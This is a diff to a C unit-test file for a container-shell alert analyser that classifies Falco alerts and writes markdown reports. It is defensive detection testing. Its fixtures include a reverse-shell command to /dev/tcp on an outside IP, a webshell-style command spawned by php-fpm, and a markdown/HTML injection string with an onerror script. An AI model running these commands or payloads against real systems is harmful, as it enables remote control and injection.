@@ -17,6 +17,7 @@
 #include "report/analyze.h"
 #include "report/report.h"
 #include "rules/rules.h"
+#include "tmpdir.h"
 
 #define KB_FILE "rules/knowledge_base.yaml"
 #define RULES_FILE "rules/shellsentry_rules.yaml"
@@ -30,7 +31,7 @@ static struct mdbuf all_reports;
 /* Run analyze on input (or on file when input is NULL); returns its stdout. */
 static char *analyze(const char *input, const char *file, const char *out_dir, int want)
 {
-	char *argv[8] = { "analyze", "--kb", KB_FILE };
+	char *argv[8] = {"analyze", "--kb", KB_FILE};
 	char *out = NULL, *errs = NULL;
 	size_t out_len = 0, err_len = 0;
 	FILE *in, *o, *e;
@@ -98,6 +99,73 @@ static char *alert_line(const char *rule, const char *time, const char *cid, int
 	return line;
 }
 
+/*
+ * A JSON alert line with exactly the given output fields: pairs of key and
+ * value, "i:" before an integer value, "b:" before a boolean one, NULL ends.
+ */
+static char *alert_kv(const char *rule, const char *prio, const char *time, const char *host,
+		      const char *const *kv)
+{
+	struct json_object *o = json_object_new_object(), *f = json_object_new_object(), *v;
+	char *line;
+
+	json_object_object_add(o, "time", json_object_new_string(time));
+	json_object_object_add(o, "rule", json_object_new_string(rule));
+	json_object_object_add(o, "priority", json_object_new_string(prio));
+	json_object_object_add(o, "source", json_object_new_string("syscall"));
+	json_object_object_add(o, "hostname", json_object_new_string(host));
+	json_object_object_add(o, "output", json_object_new_string("shell"));
+	for (; kv[0]; kv += 2) {
+		if (!strncmp(kv[1], "i:", 2))
+			v = json_object_new_int64(atoll(kv[1] + 2));
+		else if (!strncmp(kv[1], "b:", 2))
+			v = json_object_new_boolean(!strcmp(kv[1] + 2, "true"));
+		else
+			v = json_object_new_string(kv[1]);
+		json_object_object_add(f, kv[0], v);
+	}
+	json_object_object_add(o, "output_fields", f);
+	line = strdup(json_object_to_json_string_ext(o, JSON_C_TO_STRING_PLAIN));
+	json_object_put(o);
+	return line;
+}
+
+/* The text of section "## name" up to the next "## ". */
+static char *section(const char *r, const char *name)
+{
+	const char *s = strstr(r, name), *e;
+
+	assert_non_null(s);
+	e = strstr(s + 3, "\n## ");
+	return strndup(s, e ? (size_t)(e - s) : strlen(s));
+}
+
+/* The verdict as the title states it: after "on `host`: " on the first line. */
+static char *title_verdict(const char *r)
+{
+	const char *s = strstr(r, "`: "), *e = strchr(r, '\n');
+
+	assert_non_null(s);
+	assert_true(s < e);
+	return strndup(s + 3, (size_t)(e - s - 3));
+}
+
+/* One verdict, stated the same way in title, summary and the verdict section. */
+static void one_verdict(const char *r)
+{
+	char *v = title_verdict(r), *want, *sect;
+
+	assert_true(asprintf(&want, "**Verdict: %s.**", v) > 0);
+	if (!strstr(r, want))
+		fail_msg("summary does not state the title's verdict '%s'", v);
+	free(want);
+	sect = section(r, "## Verdict");
+	if (!strstr(sect, v))
+		fail_msg("verdict section does not state '%s'", v);
+	free(sect);
+	free(v);
+}
+
 /* The YAML of the tuning section's code block. */
 static char *tuning_yaml(const char *report)
 {
@@ -135,9 +203,9 @@ static void snippet_check(const char *report, const struct exec_event *ev, const
 {
 	char path[] = "/tmp/ss_tuning_XXXXXX";
 	char *yaml = tuning_yaml(report);
-	const char *paths[2] = { RULES_FILE, path };
-	struct rules_options opt = { .min_priority = PRIO_DEBUG };
-	struct rules_error err;
+	const char *paths[2] = {RULES_FILE, path};
+	struct rules_options opt = {.min_priority = PRIO_DEBUG};
+	struct ss_error err;
 	struct ruleset *rs = NULL;
 	int fd = mkstemp(path);
 
@@ -156,11 +224,6 @@ static void snippet_check(const char *report, const struct exec_event *ev, const
 	ruleset_free(rs);
 	unlink(path);
 	free(yaml);
-}
-
-static void snippet_loads(const char *report)
-{
-	snippet_check(report, NULL, NULL);
 }
 
 /* Lines starting with prefix, outside fenced code blocks. */
@@ -185,27 +248,10 @@ static size_t count_lines_starting(const char *s, const char *prefix)
 	return n;
 }
 
-/* The seed's exec as the detector sees it: the exception must silence it. */
-static void snippet_seed(const char *report)
-{
-	struct alert *a = malloc(sizeof(*a));
-	struct alert_error aerr;
-	char *line = NULL;
-	size_t cap = 0;
-	FILE *f = fopen(SEED_FILE, "r");
-
-	assert_non_null(f);
-	assert_true(getline(&line, &cap, f) > 0);
-	fclose(f);
-	assert_int_equal(alert_from_json(line, strlen(line), a, &aerr), 0);
-	snippet_check(report, &a->ev, "Detect Shell in Container");
-	free(line);
-	free(a);
-}
-
+/* The seed as Falco wrote it: nothing confirms the loader, so it only resembles it. */
 static void test_seed_reproduced(void **state)
 {
-	char *r = analyze(NULL, SEED_FILE, NULL, 0);
+	char *r = analyze(NULL, SEED_FILE, NULL, 0), *t;
 
 	(void)state;
 	assert_non_null(strstr(r, "Detect Shell in Container"));
@@ -213,56 +259,294 @@ static void test_seed_reproduced(void **state)
 	assert_non_null(strstr(r, "k8s-master-01"));
 	assert_non_null(strstr(r, "`root`"));
 	assert_non_null(strstr(r, SEED_CMD)); /* verbatim, outside tables */
-	assert_non_null(strstr(r, "**Verdict: expected**"));
+	assert_non_null(strstr(r, "**Verdict: resembles Falco's driver loader checks whether the "
+				  "falco kernel module is loaded, unverified.**"));
+	assert_null(strstr(r, "Verdict: expected"));
 	assert_non_null(strstr(r, "falco-driver-loader-kmod-check"));
 	assert_non_null(strstr(r, "falcoctl"));
 	assert_non_null(strstr(r, "falco-driver-loader"));
+	/* the alternative, should the checks fail */
+	assert_non_null(strstr(r, "Discovery of security tooling (suspicious)"));
 	/* facts Falco's JSON lacks are said to be unknown, not made up */
 	assert_non_null(strstr(r, "| Lineage | *unknown"));
 	assert_non_null(strstr(r, "| Image | *unknown"));
 	assert_null(strstr(r, "uid 0"));
 	assert_int_equal(count_lines_starting(r, "# "), 1);
-	snippet_seed(r);
+	/* no exception for what is not verified */
+	t = section(r, "## Tuning");
+	assert_non_null(strstr(t, "No exception is offered"));
+	assert_null(strstr(t, "```"));
+	free(t);
+	one_verdict(r);
 	free(r);
+}
+
+/* The seed in its real context, as shellsentry sees it: expected, with a narrow exception. */
+static const char *const seed_live[] = {"proc.name",
+					"bash",
+					"proc.cmdline",
+					SEED_CMD,
+					"proc.pname",
+					"falcoctl",
+					"proc.tty",
+					"i:0",
+					"proc.pid",
+					"i:4242",
+					"proc.vpid",
+					"i:12",
+					"user.uid",
+					"i:0",
+					"user.name",
+					"root",
+					"container.id",
+					"185304d1bba4",
+					"container.name",
+					"falco-driver-loader",
+					"container.image.repository",
+					"falcosecurity/falco-driver-loader",
+					"container.image",
+					"falcosecurity/falco-driver-loader:0.40.0",
+					"k8s.ns.name",
+					"falco",
+					"k8s.pod.name",
+					"falco-x7k2p",
+					"k8s.container.name",
+					"falco-driver-loader",
+					"shellsentry.lineage",
+					"init-tree",
+					"evt.arg.flags",
+					"",
+					"shellsentry.cap_effective_hex",
+					"0x000001ffffffffff",
+					"container.privileged",
+					"b:true",
+					NULL};
+
+static void test_seed_in_context_is_expected(void **state)
+{
+	char *line = alert_kv("Detect Shell in Container", "Notice", "2024-05-15T10:02:03Z",
+			      "k8s-master-01", seed_live);
+	char *r = analyze(line, NULL, NULL, 0), *m;
+	struct alert *a = malloc(sizeof(*a));
+	struct ss_error aerr;
+
+	(void)state;
+	assert_non_null(strstr(r, "**Verdict: expected: Falco's driver loader"));
+	/* the title names the pod and container, the id is in the body */
+	assert_non_null(strstr(r, "# Shell activity in pod `falco`/`falco-x7k2p`, container "
+				  "`falco-driver-loader` on `k8s-master-01`: expected"));
+	assert_non_null(strstr(r, "| Container id | `185304d1bba4` |"));
+	/* expected: no hardening of a workload that needs its privileges */
+	m = section(r, "## Mitigations");
+	assert_non_null(strstr(m, "Nothing here needs blocking"));
+	assert_null(strstr(m, "securityContext"));
+	free(m);
+	one_verdict(r);
+	assert_int_equal(alert_from_json(line, strlen(line), a, &aerr), 0);
+	snippet_check(r, &a->ev, "Detect Shell in Container");
+	free(a);
+	free(r);
+	free(line);
+}
+
+/* Issue 17, case 2: a failing check is suspicious everywhere, never "expected" advice. */
+static void test_seed_elsewhere_one_verdict(void **state)
+{
+	const char *kv[64];
+	char *line, *r;
+	size_t i;
+
+	(void)state;
+	for (i = 0; seed_live[i]; i += 2) {
+		kv[i] = seed_live[i];
+		kv[i + 1] = seed_live[i + 1];
+		if (!strcmp(kv[i], "container.image.repository"))
+			kv[i + 1] = "localhost/bb";
+		if (!strcmp(kv[i], "shellsentry.lineage"))
+			kv[i + 1] = "injected";
+	}
+	kv[i] = NULL;
+	line = alert_kv("Shell probing for security tooling", "Warning", "2024-05-15T10:02:03Z",
+			"k8s-master-01", kv);
+	r = analyze(line, NULL, NULL, 0);
+	assert_non_null(strstr(r, "**Verdict: suspicious: resembles Falco's driver loader"));
+	assert_non_null(strstr(r, "The container image is falcosecurity/falco-driver-loader or "
+				  "falcosecurity/falco"));
+	/* and why that matters */
+	assert_non_null(strstr(r, "Only Falco's images run falcoctl's driver install"));
+	assert_null(strstr(r, ": expected"));
+	assert_null(strstr(r, "expected, verified"));
+	assert_null(strstr(r, "add the exception from the tuning section"));
+	assert_non_null(strstr(r, "No exception is offered"));
+	one_verdict(r);
+	free(r);
+	free(line);
+}
+
+/* Issue 17, case 3 and 5: podman exec -it web-1 sh, five times in two seconds. */
+static void test_podman_exec_it_one_report(void **state)
+{
+	static const char *const kv[] = {
+		"proc.name",
+		"sh",
+		"proc.cmdline",
+		"sh",
+		"proc.pname",
+		"runc",
+		"proc.tty",
+		"i:34816",
+		"proc.pid",
+		"i:5000",
+		"user.uid",
+		"i:0",
+		"user.name",
+		"root",
+		"container.id",
+		"3ad7b26ded6d",
+		"container.full_id",
+		"3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e",
+		"container.name",
+		"web-1",
+		"container.image.repository",
+		"localhost/bb",
+		"container.runtime",
+		"podman",
+		"shellsentry.lineage",
+		"injected",
+		"evt.arg.flags",
+		"",
+		"shellsentry.cap_effective_hex",
+		"0x00000000800405fb",
+		NULL};
+	char *lines[5], *input, dir[] = "/tmp/ss_reports_XXXXXX", *listing, *r, *t;
+	char times[5][40];
+	struct dirent *de;
+	size_t files = 0;
+	DIR *d;
+	int i;
+
+	(void)state;
+	for (i = 0; i < 5; i++) {
+		snprintf(times[i], sizeof(times[i]), "2024-05-15T10:02:0%d.%d00Z", 3 + i / 3, i);
+		lines[i] =
+			alert_kv("Terminal shell in container", "Notice", times[i], "node-7", kv);
+		/* each exec is its own process */
+		*strstr(lines[i], "5000") = (char)('1' + i);
+	}
+	assert_true(asprintf(&input, "%s\n%s\n%s\n%s\n%s\n", lines[0], lines[1], lines[2], lines[3],
+			     lines[4]) > 0);
+	r = analyze(input, NULL, NULL, 0);
+	assert_int_equal(count_lines_starting(r, "# Shell activity"), 1);
+	assert_non_null(strstr(r, "# Shell activity in container `web-1` on `node-7`: no known "
+				  "pattern: review needed"));
+	assert_non_null(strstr(r, ", and 4 more times until `2024-05-15T10:02:04.400Z`"));
+	assert_non_null(strstr(r, "in 5 sessions"));
+	/* podman, no pod: no Kubernetes advice, podman's own */
+	assert_null(strstr(r, "pods/exec"));
+	assert_null(strstr(r, "Pod Security"));
+	assert_null(strstr(r, "securityContext"));
+	assert_non_null(strstr(r, "podman run --cap-drop=ALL"));
+	assert_non_null(strstr(r, "podman events --filter event=exec"));
+	/* mitigations once */
+	assert_int_equal(count_lines_starting(r, "## Mitigations"), 1);
+	t = section(r, "## Tuning");
+	assert_non_null(strstr(t, "No exception is offered"));
+	assert_null(strstr(t, "```"));
+	free(t);
+	one_verdict(r);
+	free(r);
+
+	assert_non_null(mkdtemp(dir));
+	listing = analyze(input, NULL, dir, 0);
+	d = opendir(dir);
+	assert_non_null(d);
+	while ((de = readdir(d))) {
+		char path[512];
+
+		if (de->d_name[0] == '.')
+			continue;
+		files++;
+		/* named after the container, not its id */
+		assert_non_null(strstr(de->d_name, "_node-7_web-1.md"));
+		assert_null(strstr(de->d_name, "3ad7b26ded6d"));
+		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
+		unlink(path);
+	}
+	closedir(d);
+	rmdir(dir);
+	assert_int_equal(files, 1);
+	free(listing);
+	free(input);
+	for (i = 0; i < 5; i++)
+		free(lines[i]);
+}
+
+/* Issue 17, case 4: php-fpm as www-data starts a shell: RCE, the application's trail. */
+static void test_webshell_trail(void **state)
+{
+	static const char *const kv[] = {
+		"proc.name",	"sh",		"proc.cmdline",
+		"sh -c id",	"proc.pname",	"php-fpm",
+		"proc.tty",	"i:0",		"user.name",
+		"www-data",	"user.uid",	"i:33",
+		"container.id", "0123456789ab", "container.image.repository",
+		"shop/php",	"k8s.ns.name",	"shop",
+		"k8s.pod.name", "php-7d9f",	NULL};
+	char *line = alert_kv("Detect Shell in Container", "Notice", "2024-05-15T10:02:03Z",
+			      "node-7", kv);
+	char *r = analyze(line, NULL, NULL, 0), *rec;
+
+	(void)state;
+	assert_non_null(strstr(r, "**Verdict: malicious-indicator: Shell started by a server "
+				  "process"));
+	assert_non_null(strstr(r, "Severity: **Critical**, raised from the rule's Notice"));
+	rec = section(r, "## Recommendations");
+	assert_non_null(strstr(rec, "application's"));
+	assert_null(strstr(rec, "pods/exec"));
+	free(rec);
+	one_verdict(r);
+	free(r);
+	free(line);
 }
 
 static void test_reverse_shell_is_malicious(void **state)
 {
-	char *line = alert_line("Terminal shell in container", "2024-05-15T10:02:03.5Z",
-				"0123456789ab", 4242,
-				"bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", NULL, NULL);
+	char *line =
+		alert_line("Terminal shell in container", "2024-05-15T10:02:03.5Z", "0123456789ab",
+			   4242, "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", NULL, NULL);
 	char *r = analyze(line, NULL, NULL, 0);
 
 	(void)state;
-	assert_non_null(strstr(r, "**Verdict: malicious-indicator**"));
+	assert_non_null(strstr(r, "**Verdict: malicious-indicator: Reverse shell.**"));
 	assert_non_null(strstr(r, "`reverse-shell`"));
 	/* mitigations follow the facts: root, privileged, injected with a tty */
 	assert_non_null(strstr(r, "runAsNonRoot: true"));
 	assert_non_null(strstr(r, "drop: [\"ALL\"]"));
 	assert_non_null(strstr(r, "**privileged**"));
-	assert_non_null(strstr(r, "interactive shell injected from outside"));
+	assert_non_null(strstr(r, "**injected from outside**"));
 	assert_non_null(strstr(r, "pods/exec"));
 	assert_non_null(strstr(r, "readOnlyRootFilesystem: true"));
-	assert_non_null(strstr(r, "namespace: shop"));
+	assert_non_null(strstr(r, "-n shop"));
 	assert_non_null(strstr(r, "pts/0"));
-	assert_non_null(strstr(r, "Do not add this exception"));
-	snippet_loads(r);
+	assert_non_null(strstr(r, "No exception is offered"));
+	one_verdict(r);
 	free(r);
 	free(line);
 }
 
 static void test_plain_shell_has_no_pattern(void **state)
 {
-	char *line = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z", "0123456789ab", 1,
-				"sh -c true", NULL, NULL);
+	char *line = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z", "0123456789ab",
+				1, "sh -c true", NULL, NULL);
 	char *r = analyze(line, NULL, NULL, 0);
 
 	(void)state;
-	assert_non_null(strstr(r, "**Verdict: no known pattern: review needed**"));
+	assert_non_null(strstr(r, "**Verdict: no known pattern: review needed.**"));
 	assert_non_null(strstr(r, "matched none of the"));
 	/* no pattern section in the assessment */
-	assert_true(strstr(r, "### ") > strstr(r, "## Mitigations"));
-	snippet_loads(r);
+	assert_null(strstr(r, "\n### "));
+	assert_non_null(strstr(r, "No exception is offered"));
+	one_verdict(r);
 	free(r);
 	free(line);
 }
@@ -335,13 +619,13 @@ static void test_markdown_injection_contained(void **state)
 {
 	const char *evil = "sh -c echo `x` ``y`` | z\n# pwned <img src=x onerror=alert(1)> |\r"
 			   "\x1b[2J</code>";
-	char *line = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z", "0123456789ab", 9,
-				evil, "container.name", "evil|name\n## Fake section");
-	char *benign = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z", "0123456789ab", 9,
-				  "sh -c true", "container.name", "web");
+	char *line = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z", "0123456789ab",
+				9, evil, "container.name", "evil|name\n## Fake section");
+	char *benign = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z",
+				  "0123456789ab", 9, "sh -c true", "container.name", "web");
 	char *r = analyze(line, NULL, NULL, 0), *rb = analyze(benign, NULL, NULL, 0);
 	const char *p, *eol, *sect;
-	struct alert_error aerr;
+	struct ss_error aerr;
 	struct alert *a;
 	size_t len;
 
@@ -365,21 +649,23 @@ static void test_markdown_injection_contained(void **state)
 	}
 	/* table rows keep their column count */
 	sect = strstr(r, "## Event details");
-	for (p = strstr(sect, "\n|"); p && p < strstr(sect, "\n## Timeline"); p = strstr(p, "\n|")) {
+	for (p = strstr(sect, "\n|"); p && p < strstr(sect, "\n## Timeline");
+	     p = strstr(p, "\n|")) {
 		p++;
 		eol = strchr(p, '\n');
 		assert_int_equal(unescaped_pipes(p, (size_t)(eol - p)), 3);
 	}
 	sect = strstr(r, "## Timeline");
-	for (p = strstr(sect, "\n|"); p && p < strstr(sect, "\n## Security"); p = strstr(p, "\n|")) {
+	for (p = strstr(sect, "\n|"); p && p < strstr(sect, "\n## Security");
+	     p = strstr(p, "\n|")) {
 		p++;
 		eol = strchr(p, '\n');
 		assert_int_equal(unescaped_pipes(p, (size_t)(eol - p)), 8);
 	}
-	/* the exception carries the hostile bytes exactly: it silences this exec */
+	/* nothing is offered for an unexplained command, hostile bytes or not */
 	a = malloc(sizeof(*a));
 	assert_int_equal(alert_from_json(line, strlen(line), a, &aerr), 0);
-	snippet_check(r, &a->ev, "Detect Shell in Container");
+	assert_non_null(strstr(r, "No exception is offered"));
 	free(a);
 	free(r);
 	free(rb);
@@ -389,12 +675,12 @@ static void test_markdown_injection_contained(void **state)
 
 static void test_kubectl_exec_grouped(void **state)
 {
-	char *l1 = alert_line("Detect Shell in Container", "2024-05-15T10:02:03.100Z", "0123456789ab",
-			      4242, KUBECTL_CMD, NULL, NULL);
-	char *l2 = alert_line("Detect Shell in Container", "2024-05-15T10:02:03.140Z", "0123456789ab",
-			      4242, "bash", NULL, NULL);
-	char *l3 = alert_line("Detect Shell in Container", "2024-05-15T10:02:04Z", "ba9876543210", 77,
-			      "bash", NULL, NULL);
+	char *l1 = alert_line("Detect Shell in Container", "2024-05-15T10:02:03.100Z",
+			      "0123456789ab", 4242, KUBECTL_CMD, NULL, NULL);
+	char *l2 = alert_line("Detect Shell in Container", "2024-05-15T10:02:03.140Z",
+			      "0123456789ab", 4242, "bash", NULL, NULL);
+	char *l3 = alert_line("Detect Shell in Container", "2024-05-15T10:02:04Z", "ba9876543210",
+			      77, "bash", NULL, NULL);
 	char *input, dir[] = "/tmp/ss_reports_XXXXXX", *r, *listing;
 	struct dirent *de;
 	size_t files = 0;
@@ -408,7 +694,7 @@ static void test_kubectl_exec_grouped(void **state)
 	assert_non_null(strstr(r, "| 1 | `2024-05-15T10:02:03.100Z`"));
 	assert_non_null(strstr(r, "| 2 | `2024-05-15T10:02:03.140Z`"));
 	assert_non_null(strstr(r, "exec bash \\|\\| exec sh"));
-	assert_non_null(strstr(r, "2 commands in one session"));
+	assert_non_null(strstr(r, "2 distinct commands in 1 session, starting with"));
 	free(r);
 
 	assert_non_null(mkdtemp(dir));
@@ -449,7 +735,10 @@ static void test_reporter_bounds(void **state)
 
 	(void)state;
 	assert_non_null(mkdtemp(dir));
-	assert_int_equal(reporter_new(dir, KB_FILE, 1, 0, &rep), 0);
+	struct reporter_options ro = {.dir = dir, .kb_path = KB_FILE, .max_reports = 1};
+	struct ss_error err;
+
+	assert_int_equal(reporter_new(&ro, &rep, &err), 0);
 	ev->time_ns = 1715767323ull * 1000000000ull;
 	ev->container.is_container = true;
 	snprintf(ev->container.id, sizeof(ev->container.id), "0123456789ab");
@@ -495,6 +784,52 @@ static void test_reporter_bounds(void **state)
 	free(ev);
 }
 
+/* The report folder: created when missing, refused when unusable; the delay decides when. */
+static void test_reporter_dir_and_delay(void **state)
+{
+	char base[] = "/tmp/ss_dir_XXXXXX", path[512];
+	struct ss_error err;
+	struct exec_event *ev = calloc(1, sizeof(*ev));
+	struct reporter_options ro = {.kb_path = KB_FILE, .delay_ns = 2000000000ull};
+	struct reporter_stats st;
+	struct reporter *rep;
+	FILE *f;
+
+	(void)state;
+	assert_non_null(mkdtemp(base));
+	/* missing: created */
+	snprintf(path, sizeof(path), "%s/reports", base);
+	ro.dir = path;
+	assert_int_equal(reporter_new(&ro, &rep, &err), 0);
+	ev->time_ns = 1715767323ull * 1000000000ull;
+	ev->container.is_container = true;
+	snprintf(ev->container.id, sizeof(ev->container.id), "0123456789ab");
+	snprintf(ev->comm, sizeof(ev->comm), "sh");
+	snprintf(ev->cmdline, sizeof(ev->cmdline), "sh");
+	assert_int_equal(reporter_add(rep, ev, "Detect Shell in Container", PRIO_NOTICE, "o"), 0);
+	/* 1.9 s after the last alert: still open; 2 s: written */
+	assert_int_equal(reporter_flush(rep, ev->time_ns + 1900000000ull, false), 0);
+	reporter_get_stats(rep, &st);
+	assert_int_equal(st.written, 0);
+	assert_int_equal(reporter_flush(rep, ev->time_ns + 2000000000ull, false), 0);
+	reporter_get_stats(rep, &st);
+	assert_int_equal(st.written, 1);
+	reporter_free(rep);
+	/* a file where the folder should be */
+	snprintf(path, sizeof(path), "%s/file", base);
+	f = fopen(path, "w");
+	assert_non_null(f);
+	fclose(f);
+	assert_int_equal(reporter_new(&ro, &rep, &err), -ENOTDIR);
+	assert_non_null(strstr(err.msg, "not a directory"));
+	/* a parent that does not exist */
+	snprintf(path, sizeof(path), "%s/no/such/dir", base);
+	assert_true(reporter_new(&ro, &rep, &err) < 0);
+	assert_non_null(strstr(err.msg, "cannot create it"));
+	assert_int_equal(tmpdir_remove(base), 0);
+	free(ev);
+}
+
 /* Runs last: no report ever recommends removing protections. */
 static void test_no_harmful_advice(void **state)
 {
@@ -516,11 +851,16 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_seed_reproduced),
+		cmocka_unit_test(test_seed_in_context_is_expected),
+		cmocka_unit_test(test_seed_elsewhere_one_verdict),
+		cmocka_unit_test(test_podman_exec_it_one_report),
+		cmocka_unit_test(test_webshell_trail),
 		cmocka_unit_test(test_reverse_shell_is_malicious),
 		cmocka_unit_test(test_plain_shell_has_no_pattern),
 		cmocka_unit_test(test_markdown_injection_contained),
 		cmocka_unit_test(test_kubectl_exec_grouped),
 		cmocka_unit_test(test_reporter_bounds),
+		cmocka_unit_test(test_reporter_dir_and_delay),
 		cmocka_unit_test(test_no_harmful_advice),
 	};
 
